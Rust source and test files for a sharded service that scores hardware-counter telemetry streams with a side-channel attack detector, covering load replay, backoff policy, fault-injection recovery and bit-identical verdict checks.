                assert!(a <= p.max_backoff.mul_f64(1.5));
                if attempt == 0 {
                    assert!(a >= p.base_backoff.mul_f64(0.5));
                }
            }
        }
        // Different streams desynchronize: at least one early attempt
        // must differ between two streams.
        let diverged = (0..4).any(|k| p.backoff(1, k) != p.backoff(2, k));
        assert!(diverged, "jitter streams must be stream-keyed");
    }

    #[test]
    fn backoff_grows_until_the_cap() {
        let p = SubmitPolicy {
            base_backoff: Duration::from_micros(100),
            max_backoff: Duration::from_millis(100),
            ..SubmitPolicy::default()
        };
        // Compare nominal envelopes (jitter is ±50%, growth is 2× per
        // attempt, so attempt k+2 always exceeds attempt k until the cap).
        let early = p.backoff(3, 0);
        let later = p.backoff(3, 6);
        assert!(later > early, "exponential growth: {early:?} vs {later:?}");
    }
}
