//! The replay load generator: fans an on-disk corpus out as thousands of
//! concurrent telemetry streams against a running service.
//!
//! Stream `i` replays trace `i % n_traces` of the corpus, window by
//! window, through [`Submitter::submit_with_policy`] — so a small corpus
//! can stand in for an arbitrarily wide fleet. Rows are fetched through
//! the memory-mapped [`CorpusReader`]; nothing beyond the block being
//! read is ever resident, which is the whole point of the columnar
//! format.
//!
//! Client threads interleave their streams round-robin (window 0 of every
//! owned stream, then window 1, …), the worst-case arrival pattern for
//! the service's cross-session batcher: maximally many distinct sessions
//! per batch. Backpressure is absorbed by the configured
//! [`SubmitPolicy`] — deterministic jittered backoff under a deadline —
//! showing up as [`ReplayOutcome::busy_retries`] when absorbed and
//! [`ReplayOutcome::shed`] when a window's budget ran out; replay never
//! queues unboundedly and never spins.

use std::time::Duration;

use perspectron::corpus_io::CorpusReader;

use crate::policy::SubmitPolicy;
use crate::service::{SubmitError, Submitter};

/// Shape of the replayed load.
#[derive(Debug, Clone)]
pub struct ReplayConfig {
    /// Concurrent streams to emulate (each replays one corpus trace).
    pub streams: usize,
    /// Producer threads the streams are spread across. Clamped to
    /// `1..=streams`.
    pub client_threads: usize,
    /// Cap on windows replayed per stream (`None` = the whole trace).
    pub windows_per_stream: Option<usize>,
    /// Pause between a client's interleave rounds — the rate knob
    /// (`streams × (1/round_gap)` windows/s per client at the limit).
    /// `None` replays at maximum rate.
    pub round_gap: Option<Duration>,
    /// How each window's submission handles backpressure. The default is
    /// [`SubmitPolicy::patient`]: a load generator should absorb
    /// transient `Busy` and only shed against a genuinely wedged service.
    pub policy: SubmitPolicy,
}

impl Default for ReplayConfig {
    fn default() -> Self {
        Self {
            streams: 1024,
            client_threads: 4,
            windows_per_stream: None,
            round_gap: None,
            policy: SubmitPolicy::patient(),
        }
    }
}

/// What the generator actually delivered.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ReplayOutcome {
    /// Windows accepted by the service.
    pub submitted: u64,
    /// `Busy` rejections absorbed by policy retries.
    pub busy_retries: u64,
    /// Windows given up on — the submit deadline or retry budget ran out
    /// with the shard still busy. The replay moves on to the stream's
    /// next window (the service quarantines on loss only when a *worker*
    /// loses an accepted window; a shed window was never accepted).
    pub shed: u64,
    /// Streams that submitted at least one window.
    pub streams: usize,
}

/// Replays `reader`'s corpus as [`ReplayConfig::streams`] concurrent
/// streams against the service behind `submitter`. Blocks until every
/// window has been *accepted* or shed under the policy (verdicts may
/// still be in flight — use
/// [`Perspectrond::drain`](crate::service::Perspectrond::drain) or
/// shutdown for the barrier).
///
/// # Panics
///
/// Panics if the corpus is empty or `streams` is zero.
pub fn replay_clients(
    reader: &CorpusReader,
    submitter: &Submitter,
    cfg: &ReplayConfig,
) -> ReplayOutcome {
    assert!(reader.n_traces() > 0, "cannot replay an empty corpus");
    assert!(cfg.streams > 0, "need at least one stream");
    let clients = cfg.client_threads.clamp(1, cfg.streams);
    let retries_before = submitter.retries();

    let totals = std::thread::scope(|scope| {
        let mut handles = Vec::with_capacity(clients);
        for client in 0..clients {
            let submitter = submitter.clone();
            handles.push(scope.spawn(move || {
                let mut submitted = 0u64;
                let mut shed = 0u64;
                // The streams this client owns, with their trace and length.
                let owned: Vec<(u64, usize, usize)> = (client..cfg.streams)
                    .step_by(clients)
                    .map(|s| {
                        let t = s % reader.n_traces();
                        let mut rows = reader.trace_meta(t).rows;
                        if let Some(cap) = cfg.windows_per_stream {
                            rows = rows.min(cap);
                        }
                        (s as u64, t, rows)
                    })
                    .collect();
                let longest = owned.iter().map(|&(_, _, rows)| rows).max().unwrap_or(0);
                let mut row = Vec::new();
                for j in 0..longest {
                    for &(stream, t, rows) in &owned {
                        if j >= rows {
                            continue;
                        }
                        let at_inst = reader
                            .read_row(t, j, &mut row)
                            .expect("replay read within bounds");
                        let boxed: Box<[f64]> = row.as_slice().into();
                        match submitter.submit_with_policy(stream, at_inst, boxed, &cfg.policy) {
                            Ok(()) => submitted += 1,
                            Err(SubmitError::Deadline { .. }) => shed += 1,
                            Err(SubmitError::Busy { .. }) => {
                                unreachable!("policy path never surfaces Busy")
                            }
                            Err(SubmitError::Shutdown) => {
                                panic!("service shut down mid-replay")
                            }
                        }
                    }
                    if let Some(gap) = cfg.round_gap {
                        std::thread::sleep(gap);
                    }
                }
                (submitted, shed, owned.len())
            }));
        }
        handles
            .into_iter()
            .map(|h| h.join().expect("replay client panicked"))
            .fold((0u64, 0u64, 0usize), |acc, x| {
                (acc.0 + x.0, acc.1 + x.1, acc.2 + x.2)
            })
    });

    ReplayOutcome {
        submitted: totals.0,
        busy_retries: submitter.retries() - retries_before,
        shed: totals.1,
        streams: totals.2,
    }
}
