//! Fault-tolerance contract tests: supervised shard restarts preserve
//! bit-identity, losses are typed and quarantined (never silent), the
//! watchdog catches wedged workers, submit policies shed on deadline, and
//! the whole chaos surface is byte-reproducible from its seed.

use std::sync::OnceLock;
use std::time::Duration;

use perspectron::corpus_io::{self, CorpusReader};
use perspectron::{
    CollectedCorpus, CorpusSpec, FaultPlan, FaultSpec, IntervalVerdict, PerSpectron, SessionState,
};
use perspectron_serviced::{
    replay_clients, ChaosSpec, PanicAt, Perspectrond, PoisonPill, ReplayConfig, RestartCause,
    ServiceConfig, ServiceError, StallAt, SubmitError, SubmitPolicy, WatchdogConfig,
};
use proptest::prelude::*;
use uarch_stats::SampleSink;

fn tiny_spec() -> CorpusSpec {
    let mut all = workloads::full_suite();
    all.retain(|w| ["flush-reload", "spectre-v1", "hmmer", "mcf"].contains(&w.name.as_str()));
    CorpusSpec {
        insts_per_workload: 60_000,
        sample_interval: 10_000,
        workloads: all,
    }
}

fn corpus() -> &'static CollectedCorpus {
    static C: OnceLock<CollectedCorpus> = OnceLock::new();
    C.get_or_init(|| tiny_spec().collect())
}

fn detector() -> &'static PerSpectron {
    static D: OnceLock<PerSpectron> = OnceLock::new();
    D.get_or_init(|| PerSpectron::train(corpus(), 42))
}

fn corpus_file(tag: &str) -> std::path::PathBuf {
    let path = std::env::temp_dir().join(format!(
        "perspectron_chaos_{tag}_{}.pspc",
        std::process::id()
    ));
    corpus_io::write_corpus(&path, corpus()).expect("write corpus");
    path
}

/// Per-trace verdict sequences of `c`, each trace run alone through the
/// single-stream packed sink — the bit-identity reference.
fn lone_verdicts(c: &CollectedCorpus) -> Vec<Vec<IntervalVerdict>> {
    let det = detector();
    c.traces
        .iter()
        .map(|t| {
            let mut sink = det.streaming_packed();
            let width = t.trace.schema().len();
            let flat = t.trace.flat_values();
            for (j, &at) in t.trace.instruction_counts().iter().enumerate() {
                sink.on_sample(at, &flat[j * width..(j + 1) * width]);
            }
            sink.flush();
            sink.verdicts().to_vec()
        })
        .collect()
}

fn reference_verdicts() -> &'static Vec<Vec<IntervalVerdict>> {
    static R: OnceLock<Vec<Vec<IntervalVerdict>>> = OnceLock::new();
    R.get_or_init(|| lone_verdicts(corpus()))
}

fn chaos_config(shards: usize, chaos: ChaosSpec) -> ServiceConfig {
    ServiceConfig {
        shards,
        queue_depth: 128,
        chaos,
        ..ServiceConfig::default()
    }
}

/// Replays the clean corpus as `streams` concurrent streams against a
/// service shaped by `config`.
fn run_chaos_replay(
    config: ServiceConfig,
    streams: usize,
    tag: &str,
) -> perspectron_serviced::ServiceReport {
    let path = corpus_file(tag);
    let reader = CorpusReader::open(&path).expect("open corpus");
    let service = Perspectrond::start(detector(), config);
    let submitter = service.submitter();
    let outcome = replay_clients(
        &reader,
        &submitter,
        &ReplayConfig {
            streams,
            client_threads: 4,
            ..ReplayConfig::default()
        },
    );
    drop(submitter);
    let report = service.shutdown().expect("supervised shutdown");
    assert_eq!(outcome.shed, 0, "patient replay must not shed");
    assert_eq!(
        report.windows_scored + report.lost_windows(),
        outcome.submitted,
        "every accepted window must be scored or typed as lost — never silently dropped"
    );
    std::fs::remove_file(&path).ok();
    report
}

fn assert_stream_matches_reference(
    report: &perspectron_serviced::ServiceReport,
    stream: u64,
    n_traces: usize,
) {
    let refs = reference_verdicts();
    let expect = &refs[stream as usize % n_traces];
    let got = report
        .verdicts_of(stream)
        .unwrap_or_else(|| panic!("stream {stream} lost"));
    assert_eq!(got.len(), expect.len(), "stream {stream}: window count");
    for (g, e) in got.iter().zip(expect) {
        assert_eq!(g.at_inst, e.at_inst, "stream {stream}: window reordered");
        assert_eq!(
            g.confidence.to_bits(),
            e.confidence.to_bits(),
            "stream {stream}: restart changed a verdict bit"
        );
        assert_eq!(g.suspicious, e.suspicious);
        assert_eq!(g.degraded, e.degraded);
    }
}

/// The headline recovery contract: a worker panic mid-run is survived by
/// a respawn that re-homes every session and re-scores the carried batch,
/// so at fleet scale (≥256 streams) every stream stays bit-identical to
/// its lone `streaming_packed` run — at one shard and at four.
#[test]
fn worker_panic_mid_run_is_survived_with_bitwise_identical_verdicts() {
    let streams = 256;
    let n_traces = corpus().traces.len();
    for shards in [1usize, 4] {
        let chaos = ChaosSpec {
            seed: 0xabad_1dea,
            panics: vec![PanicAt { shard: 0, sweep: 3 }],
            ..ChaosSpec::quiet()
        };
        let report = run_chaos_replay(
            chaos_config(shards, chaos),
            streams,
            &format!("panic{shards}"),
        );
        assert_eq!(
            report.restarts.len(),
            1,
            "{shards} shard(s): exactly one supervised restart"
        );
        let restart = &report.restarts[0];
        assert_eq!(restart.shard, 0);
        assert!(
            matches!(&restart.cause, RestartCause::Panic { message } if message.contains("chaos")),
            "restart must carry the panic cause, got {:?}",
            restart.cause
        );
        assert_eq!(report.lost_windows(), 0, "a sweep panic loses nothing");
        assert_eq!(report.streams.len(), streams);
        for s in 0..streams as u64 {
            assert_stream_matches_reference(&report, s, n_traces);
        }
    }
}

/// A poison pill kills the worker while one window is in its hands: that
/// window — and only that window — is lost, its stream is quarantined,
/// and every other stream is untouched bit for bit.
#[test]
fn poison_pill_loses_exactly_one_window_and_quarantines_only_its_stream() {
    let streams = 64;
    let victim = 5u64;
    let n_traces = corpus().traces.len();
    let chaos = ChaosSpec {
        seed: 99,
        pills: vec![PoisonPill {
            stream: victim,
            window: 2,
        }],
        ..ChaosSpec::quiet()
    };
    let report = run_chaos_replay(chaos_config(2, chaos), streams, "pill");
    assert_eq!(report.restarts.len(), 1);
    assert!(matches!(
        report.restarts[0].cause,
        RestartCause::Panic { .. }
    ));
    assert_eq!(report.lost_windows(), 1);

    let refs = reference_verdicts();
    for s in 0..streams as u64 {
        let outcome = &report.streams[report
            .streams
            .binary_search_by_key(&s, |o| o.stream)
            .expect("stream reported")];
        if s == victim {
            assert_eq!(outcome.lost_windows, 1);
            assert_eq!(
                outcome.state,
                SessionState::Quarantined,
                "a lost window must quarantine its stream"
            );
            let expect = &refs[s as usize % n_traces];
            assert_eq!(
                outcome.verdicts.len(),
                expect.len() - 1,
                "exactly the pilled window is missing"
            );
            // Windows before the pill are untouched.
            for (g, e) in outcome.verdicts.iter().take(2).zip(expect) {
                assert_eq!(g.confidence.to_bits(), e.confidence.to_bits());
            }
        } else {
            assert_eq!(outcome.lost_windows, 0);
            assert_stream_matches_reference(&report, s, n_traces);
        }
    }
}

/// A stalled worker stops heartbeating; the watchdog declares it wedged
/// and the worker restarts at the next loop boundary — typed as
/// `Wedged`, with nothing lost.
#[test]
fn watchdog_restarts_a_wedged_worker_without_losing_windows() {
    let trace = &corpus().traces[0].trace;
    let width = trace.schema().len();
    let flat = trace.flat_values();
    let n_traces = corpus().traces.len();

    let chaos = ChaosSpec {
        seed: 3,
        stalls: vec![StallAt {
            shard: 0,
            sweep: 2,
            stall: Duration::from_millis(600),
        }],
        ..ChaosSpec::quiet()
    };
    let service = Perspectrond::start(
        detector(),
        ServiceConfig {
            shards: 1,
            batch_windows: 2,
            watchdog: WatchdogConfig {
                tick: Duration::from_millis(20),
                stall_budget: 5,
            },
            chaos,
            ..ServiceConfig::default()
        },
    );
    let submitter = service.submitter();
    for j in 0..trace.len() {
        let at = trace.instruction_counts()[j];
        submitter
            .submit(0, at, flat[j * width..(j + 1) * width].into())
            .expect("submit");
    }
    drop(submitter);
    let report = service.shutdown().expect("supervised shutdown");

    assert!(
        report
            .restarts
            .iter()
            .any(|r| r.cause == RestartCause::Wedged),
        "the 600ms stall must out-wait the 100ms watchdog budget: {:?}",
        report.restarts
    );
    assert_eq!(report.lost_windows(), 0);
    assert_stream_matches_reference(&report, 0, n_traces);
}

/// Both policy submission paths give up with a typed `Deadline` instead
/// of blocking forever against a wedged shard, and the sheds/retries are
/// accounted in the report.
#[test]
fn submit_deadlines_shed_against_a_wedged_shard() {
    let trace = &corpus().traces[0].trace;
    let width = trace.schema().len();
    let flat = trace.flat_values();
    let row = |j: usize| -> Box<[f64]> { flat[j * width..(j + 1) * width].into() };

    // The first sweep wedges the worker for 900ms; during that window the
    // depth-2 queue cannot drain.
    let chaos = ChaosSpec {
        seed: 3,
        stalls: vec![StallAt {
            shard: 0,
            sweep: 1,
            stall: Duration::from_millis(900),
        }],
        ..ChaosSpec::quiet()
    };
    let service = Perspectrond::start(
        detector(),
        ServiceConfig {
            shards: 1,
            queue_depth: 2,
            // One window per sweep: the worker wedges with the queue
            // still full, instead of draining it into the batch first.
            batch_windows: 1,
            submit_policy: SubmitPolicy {
                deadline: Duration::from_millis(100),
                ..SubmitPolicy::default()
            },
            chaos,
            ..ServiceConfig::default()
        },
    );
    let submitter = service.submitter();

    // Wake the worker (first window → sweep 1 → 900ms stall), give it a
    // beat to wedge, then fill the queue behind it.
    submitter.submit(0, 10_000, row(0)).expect("first window");
    std::thread::sleep(Duration::from_millis(100));
    let mut accepted = 1u64;
    while submitter.try_submit(0, 10_000, row(0)).is_ok() {
        accepted += 1;
    }

    // Bounded-retry path: budget exhausted → Deadline, with retries burned.
    let tight = SubmitPolicy {
        deadline: Duration::from_millis(80),
        max_retries: 1_000,
        ..SubmitPolicy::default()
    };
    match submitter.submit_with_policy(0, 10_000, row(0), &tight) {
        Err(SubmitError::Deadline { shard, retries }) => {
            assert_eq!(shard, 0);
            assert!(retries > 0, "the policy path must have retried");
        }
        other => panic!("expected Deadline against a wedged shard, got {other:?}"),
    }

    // Blocking path: honors the service policy's deadline instead of
    // hanging on the wedged shard.
    match submitter.submit(0, 10_000, row(0)) {
        Err(SubmitError::Deadline { shard, .. }) => assert_eq!(shard, 0),
        other => panic!("expected Deadline from blocking submit, got {other:?}"),
    }

    assert_eq!(submitter.shed(), 2);
    assert!(submitter.retries() > 0);
    drop(submitter);
    let report = service.shutdown().expect("supervised shutdown");
    assert_eq!(report.shed, 2);
    assert!(report.retries > 0);
    assert_eq!(report.windows_scored, accepted);
}

/// Past its restart budget a shard's supervisor gives up — and shutdown
/// still merges every surviving shard's report instead of discarding the
/// whole run.
#[test]
fn exhausted_restart_budget_surfaces_typed_error_with_partial_report() {
    let trace = &corpus().traces[0].trace;
    let width = trace.schema().len();
    let flat = trace.flat_values();
    let n_traces = corpus().traces.len();

    let service = Perspectrond::start(
        detector(),
        ServiceConfig {
            shards: 2,
            max_restarts_per_shard: 0,
            chaos: ChaosSpec {
                seed: 1,
                panics: vec![PanicAt { shard: 0, sweep: 1 }],
                ..ChaosSpec::quiet()
            },
            ..ServiceConfig::default()
        },
    );
    let submitter = service.submitter();
    // One stream per shard. shard_of is stable, so probe for examples.
    let doomed = (0..u64::MAX).find(|&s| submitter.shard_of(s) == 0).unwrap();
    let survivor = (0..u64::MAX).find(|&s| submitter.shard_of(s) == 1).unwrap();
    for j in 0..trace.len() {
        let at = trace.instruction_counts()[j];
        // The doomed shard dies at its first sweep; later submissions to
        // it may see Shutdown. The surviving shard must accept everything.
        let _ = submitter.submit(doomed, at, flat[j * width..(j + 1) * width].into());
        submitter
            .submit(survivor, at, flat[j * width..(j + 1) * width].into())
            .expect("surviving shard accepts");
    }
    drop(submitter);
    match service.shutdown() {
        Err(ServiceError::ShardPanicked {
            shard,
            message,
            partial,
        }) => {
            assert_eq!(shard, 0);
            assert!(message.contains("chaos"), "cause preserved: {message}");
            // The survivor's full results are intact in the partial report.
            assert_stream_matches_reference(&partial, survivor, n_traces);
            assert!(
                partial.verdicts_of(doomed).is_none(),
                "dead shard's sessions are lost"
            );
        }
        Ok(_) => panic!("a dead shard must fail shutdown"),
    }
}

/// NaN storms flow through the sanitize/Degraded path and, at fleet
/// scale, drive the sticky quarantine — deterministically: the same seed
/// quarantines the same streams at any shard count.
#[test]
fn nan_storms_quarantine_the_same_streams_at_any_shard_count() {
    let streams = 64;
    let chaos = ChaosSpec {
        seed: 2024,
        storm_chance: 0.45,
        storm_frac: 0.25,
        ..ChaosSpec::quiet()
    };
    let mut config = chaos_config(1, chaos.clone());
    config.quarantine_after = 2; // tiny traces: 6 windows each
    let one = run_chaos_replay(config, streams, "storm1");
    let mut config = chaos_config(3, chaos);
    config.quarantine_after = 2;
    let three = run_chaos_replay(config, streams, "storm3");

    assert!(one.storms > 0, "≈45% of windows should storm");
    assert_eq!(one.storms, three.storms);
    let q1: Vec<u64> = one.quarantined_streams().collect();
    let q3: Vec<u64> = three.quarantined_streams().collect();
    assert!(!q1.is_empty(), "storm pressure must quarantine someone");
    assert!(q1.len() < streams, "storms must spare someone too");
    assert_eq!(q1, q3, "quarantine set must be shard-count invariant");
    assert_eq!(one.chaos_fingerprint(), three.chaos_fingerprint());

    // Streams the storm spared are bit-identical to their lone runs.
    let n_traces = corpus().traces.len();
    for o in one.streams.iter().filter(|o| o.degraded_windows == 0) {
        assert_stream_matches_reference(&one, o.stream, n_traces);
    }
}

/// End to end: a corpus faulted through the *sensor* fault plan
/// (`FaultPlan::fault_corpus`, byte-identical to collect-time injection)
/// replayed at fleet scale exercises degraded scoring and quarantine, and
/// stays bit-identical to lone faulted-stream runs.
#[test]
fn faulted_corpus_replay_exercises_quarantine_at_fleet_scale() {
    let clean = corpus();
    let plan = FaultPlan::new(
        FaultSpec {
            seed: 7,
            component_dropout: 0.30,
            corruption: 0.05,
            ..FaultSpec::none()
        },
        clean.schema(),
    );
    let faulted = plan.fault_corpus(clean);
    let path = std::env::temp_dir().join(format!(
        "perspectron_chaos_faulted_{}.pspc",
        std::process::id()
    ));
    corpus_io::write_corpus(&path, &faulted).expect("write faulted corpus");
    let reader = CorpusReader::open(&path).expect("open faulted corpus");

    let streams = 128;
    let mut config = chaos_config(3, ChaosSpec::quiet());
    config.quarantine_after = 2;
    let service = Perspectrond::start(detector(), config);
    let submitter = service.submitter();
    let outcome = replay_clients(
        &reader,
        &submitter,
        &ReplayConfig {
            streams,
            client_threads: 4,
            ..ReplayConfig::default()
        },
    );
    drop(submitter);
    let report = service.shutdown().expect("clean shutdown");
    std::fs::remove_file(&path).ok();

    assert_eq!(report.windows_scored, outcome.submitted);
    assert_eq!(report.streams.len(), streams);
    let degraded = report
        .streams
        .iter()
        .filter(|s| s.degraded_windows > 0)
        .count();
    assert!(
        degraded > 0,
        "30% dropout must degrade some windows somewhere"
    );
    assert!(
        report.quarantined_streams().count() > 0,
        "sustained dropout must quarantine streams at quarantine_after=2"
    );

    // Bit-identity holds on faulted data too: the service's sessions
    // sanitize and score exactly like the lone faulted sink.
    let refs = lone_verdicts(&faulted);
    let n_traces = faulted.traces.len();
    for s in 0..streams as u64 {
        let expect = &refs[s as usize % n_traces];
        let got = report.verdicts_of(s).expect("stream scored");
        assert_eq!(got.len(), expect.len(), "stream {s}");
        for (g, e) in got.iter().zip(expect) {
            assert_eq!(g.confidence.to_bits(), e.confidence.to_bits(), "stream {s}");
            assert_eq!(g.degraded, e.degraded, "stream {s}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4))]

    /// The whole chaos surface is a pure function of (seed, plan, corpus):
    /// two runs agree on every data observable, the fingerprint is
    /// shard-count invariant, and chaos-free streams stay bit-identical
    /// to their lone runs — restarts included.
    #[test]
    fn chaos_outcomes_are_byte_reproducible(
        seed in 0u64..u64::MAX,
        pill_stream in 0u64..32,
        storm_chance in 0.05f64..0.3,
    ) {
        let streams = 32;
        let n_traces = corpus().traces.len();
        let chaos = ChaosSpec {
            seed,
            panics: vec![PanicAt { shard: 0, sweep: 2 }],
            pills: vec![PoisonPill { stream: pill_stream, window: 1 }],
            storm_chance,
            storm_frac: 0.2,
            ..ChaosSpec::quiet()
        };
        let a = run_chaos_replay(chaos_config(2, chaos.clone()), streams, "propA");
        let b = run_chaos_replay(chaos_config(2, chaos.clone()), streams, "propB");
        let c = run_chaos_replay(chaos_config(4, chaos), streams, "propC");

        // Same (seed, plan, shard count) twice: identical counters,
        // quarantine sets, verdicts — the fingerprint covers them all.
        prop_assert_eq!(a.chaos_fingerprint(), b.chaos_fingerprint());
        prop_assert_eq!(a.windows_scored, b.windows_scored);
        prop_assert_eq!(a.storms, b.storms);
        prop_assert_eq!(a.lost_windows(), b.lost_windows());
        prop_assert_eq!(
            a.quarantined_streams().collect::<Vec<_>>(),
            b.quarantined_streams().collect::<Vec<_>>()
        );
        // Different shard count: data observables still identical.
        prop_assert_eq!(a.chaos_fingerprint(), c.chaos_fingerprint());

        // The pill cost exactly one window, on the pilled stream.
        prop_assert_eq!(a.lost_windows(), 1);

        // Chaos-free streams — untouched by storms and pills — are
        // bit-identical to their lone streaming_packed runs even though a
        // worker panicked and restarted mid-run.
        let mut spared = 0;
        for o in a.streams.iter() {
            if o.degraded_windows == 0 && o.lost_windows == 0 {
                spared += 1;
                assert_stream_matches_reference(&a, o.stream, n_traces);
            }
        }
        prop_assert!(spared > 0, "some stream should dodge {storm_chance} storms");
    }
}
