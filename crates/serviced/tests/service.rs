//! Service contract tests: zero lost/duplicated verdicts at ≥1000
//! concurrent streams, bit-identity to the single-stream packed sink,
//! shard-count invariance, and observable bounded backpressure.

use std::sync::OnceLock;
use std::time::Duration;

use perspectron::corpus_io::{self, CorpusReader};
use perspectron::{CollectedCorpus, CorpusSpec, IntervalVerdict, PerSpectron};
use perspectron_serviced::{
    replay_clients, Perspectrond, ReplayConfig, ServiceConfig, SubmitError,
};
use uarch_stats::SampleSink;

fn tiny_spec() -> CorpusSpec {
    let mut all = workloads::full_suite();
    all.retain(|w| ["flush-reload", "spectre-v1", "hmmer", "mcf"].contains(&w.name.as_str()));
    CorpusSpec {
        insts_per_workload: 60_000,
        sample_interval: 10_000,
        workloads: all,
    }
}

fn corpus() -> &'static CollectedCorpus {
    static C: OnceLock<CollectedCorpus> = OnceLock::new();
    C.get_or_init(|| tiny_spec().collect())
}

fn detector() -> &'static PerSpectron {
    static D: OnceLock<PerSpectron> = OnceLock::new();
    D.get_or_init(|| PerSpectron::train(corpus(), 42))
}

fn corpus_file(tag: &str) -> std::path::PathBuf {
    let path = std::env::temp_dir().join(format!(
        "perspectron_service_{tag}_{}.pspc",
        std::process::id()
    ));
    corpus_io::write_corpus(&path, corpus()).expect("write corpus");
    path
}

/// Reference per-trace verdict sequences: each trace run alone through
/// the single-stream packed sink.
fn reference_verdicts() -> &'static Vec<Vec<IntervalVerdict>> {
    static R: OnceLock<Vec<Vec<IntervalVerdict>>> = OnceLock::new();
    R.get_or_init(|| {
        let det = detector();
        corpus()
            .traces
            .iter()
            .map(|t| {
                let mut sink = det.streaming_packed();
                let width = t.trace.schema().len();
                let flat = t.trace.flat_values();
                for (j, &at) in t.trace.instruction_counts().iter().enumerate() {
                    sink.on_sample(at, &flat[j * width..(j + 1) * width]);
                }
                sink.flush();
                sink.verdicts().to_vec()
            })
            .collect()
    })
}

fn run_replay(shards: usize, streams: usize, tag: &str) -> perspectron_serviced::ServiceReport {
    let path = corpus_file(tag);
    let reader = CorpusReader::open(&path).expect("open corpus");
    let service = Perspectrond::start(
        detector(),
        ServiceConfig {
            shards,
            queue_depth: 128,
            ..ServiceConfig::default()
        },
    );
    let submitter = service.submitter();
    let outcome = replay_clients(
        &reader,
        &submitter,
        &ReplayConfig {
            streams,
            client_threads: 4,
            ..ReplayConfig::default()
        },
    );
    drop(submitter);
    let report = service.shutdown().expect("clean shutdown");
    assert_eq!(
        report.windows_scored, outcome.submitted,
        "every accepted window must be scored exactly once"
    );
    std::fs::remove_file(&path).ok();
    report
}

#[test]
fn thousand_streams_lose_nothing_and_match_the_lone_stream_bit_for_bit() {
    let streams = 1024;
    let report = run_replay(4, streams, "thousand");
    let refs = reference_verdicts();
    let n_traces = corpus().traces.len();

    assert_eq!(report.streams.len(), streams, "every stream must report");
    let expected_windows: u64 = (0..streams).map(|s| refs[s % n_traces].len() as u64).sum();
    assert_eq!(report.windows_scored, expected_windows);
    assert_eq!(report.latencies_us.len() as u64, expected_windows);

    for s in 0..streams as u64 {
        let expect = &refs[s as usize % n_traces];
        let got = report
            .verdicts_of(s)
            .unwrap_or_else(|| panic!("stream {s} lost"));
        assert_eq!(
            got.len(),
            expect.len(),
            "stream {s}: windows lost or duplicated"
        );
        for (g, e) in got.iter().zip(expect) {
            assert_eq!(g.at_inst, e.at_inst, "stream {s}: window reordered");
            assert_eq!(
                g.confidence.to_bits(),
                e.confidence.to_bits(),
                "stream {s}: service verdict differs from lone streaming_packed run"
            );
            assert_eq!(g.suspicious, e.suspicious);
            assert_eq!(g.degraded, e.degraded);
        }
    }
    // The cross-session batcher should actually coalesce: with 1024
    // streams fanning into 4 shards, sweeps must be far fewer than
    // windows.
    assert!(
        report.sweeps < report.windows_scored / 4,
        "batching never coalesced: {} sweeps for {} windows",
        report.sweeps,
        report.windows_scored
    );
    assert!(report.max_coalesced > 1);
}

#[test]
fn shard_count_does_not_change_any_stream_verdict_sequence() {
    let streams = 256;
    let one = run_replay(1, streams, "shard1");
    let four = run_replay(4, streams, "shard4");
    assert_eq!(one.streams.len(), streams);
    assert_eq!(four.streams.len(), streams);
    assert_eq!(one.windows_scored, four.windows_scored);
    for s in 0..streams as u64 {
        let a = one.verdicts_of(s).expect("stream in 1-shard run");
        let b = four.verdicts_of(s).expect("stream in 4-shard run");
        assert_eq!(a, b, "stream {s}: sharding changed its verdict sequence");
    }
}

#[test]
fn slow_consumer_backpressure_is_bounded_and_explicit() {
    let det = detector();
    let trace = &corpus().traces[0].trace;
    let width = trace.schema().len();
    let flat = trace.flat_values();
    let row = |j: usize| -> Box<[f64]> { flat[j * width..(j + 1) * width].into() };

    let queue_depth = 4;
    let service = Perspectrond::start(
        det,
        ServiceConfig {
            shards: 1,
            queue_depth,
            batch_windows: 4,
            // Each sweep stalls long enough for the producer to slam the
            // queue: the bounded channel must fill and reject, not grow.
            sweep_stall: Duration::from_millis(25),
            ..ServiceConfig::default()
        },
    );
    let submitter = service.submitter();

    let mut accepted = 0u64;
    let mut rejected = 0u64;
    let attempts = 200u64;
    for j in 0..attempts {
        match submitter.try_submit(7, (j + 1) * 10_000, row(j as usize % trace.len())) {
            Ok(()) => accepted += 1,
            Err(SubmitError::Busy { shard }) => {
                assert_eq!(shard, 0);
                rejected += 1;
            }
            Err(SubmitError::Deadline { .. }) => panic!("try_submit never retries"),
            Err(SubmitError::Shutdown) => panic!("service died"),
        }
    }
    assert!(
        rejected > 0,
        "queue depth {queue_depth} with a 25ms/sweep consumer must shed \
         some of {attempts} back-to-back submissions"
    );
    assert_eq!(submitter.busy_rejections(), rejected);
    assert_eq!(accepted + rejected, attempts);

    drop(submitter);
    let report = service.shutdown().expect("clean shutdown");
    // Nothing was silently buffered or dropped: exactly the accepted
    // windows were scored, in order.
    assert_eq!(report.windows_scored, accepted);
    assert_eq!(report.busy_rejections, rejected);
    let verdicts = report.verdicts_of(7).expect("stream 7 scored");
    assert_eq!(verdicts.len() as u64, accepted);
}

#[test]
fn drain_is_a_verdict_barrier_for_partial_batches() {
    let det = detector();
    let trace = &corpus().traces[0].trace;
    let width = trace.schema().len();
    let flat = trace.flat_values();

    let service = Perspectrond::start(
        det,
        ServiceConfig {
            shards: 2,
            batch_windows: 64,
            ..ServiceConfig::default()
        },
    );
    let submitter = service.submitter();
    // 3 windows per stream — far below one batch, so only a sweep on the
    // drain (or idle coalesce exhaustion) can score them.
    for s in 0..8u64 {
        for j in 0..3usize {
            submitter
                .submit(
                    s,
                    (j as u64 + 1) * 10_000,
                    flat[j * width..(j + 1) * width].into(),
                )
                .expect("submit");
        }
    }
    service.drain();
    drop(submitter);
    let report = service.shutdown().expect("clean shutdown");
    assert_eq!(report.windows_scored, 24);
    for s in 0..8u64 {
        assert_eq!(report.verdicts_of(s).map(<[_]>::len), Some(3));
    }
}
