//! Property-based tests for the statistics substrate.

use proptest::prelude::*;
use uarch_stats::{
    stat_group, Counter, Distribution, Sampler, Snapshot, StatGroup, StatItem, StatVisitor,
};

stat_group! {
    /// Three-counter test group.
    pub struct Trio {
        /// a.
        pub a: Counter => "a",
        /// b.
        pub b: Counter => "b",
        /// c.
        pub c: Counter => "c",
    }
}

proptest! {
    #[test]
    fn sampler_deltas_sum_to_cumulative_totals(
        increments in proptest::collection::vec((0u64..1000, 0u64..1000, 0u64..1000), 1..20)
    ) {
        let mut g = Trio::default();
        let mut s = Sampler::new(&g, "t");
        let mut sums = [0.0f64; 3];
        for (da, db, dc) in &increments {
            g.a.add(*da);
